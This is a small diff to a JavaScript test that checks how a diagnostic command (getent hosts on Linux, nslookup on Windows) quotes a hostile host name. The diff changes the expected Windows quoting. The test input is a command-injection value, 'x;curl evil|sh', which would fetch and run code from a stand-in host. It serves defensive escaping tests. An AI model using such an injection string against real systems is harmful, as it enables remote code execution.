@@ -187,6 +187,6 @@ describe('a command to be copied', () => {
   it('keeps what others wrote one word', () => {
     const nasty = reaching.hostNotFound("x;curl evil|sh'");
     assert.match(textOf(nasty, on('linux')), /^getent hosts 'x;curl evil\|sh'\\'''$/m);
-    assert.match(textOf(nasty, on('win32')), /^nslookup 'x;curl evil\|sh'''$/m);
+    assert.match(textOf(nasty, on('win32')), /^nslookup "x;curl evil\|sh'"$/m);
   });
 });
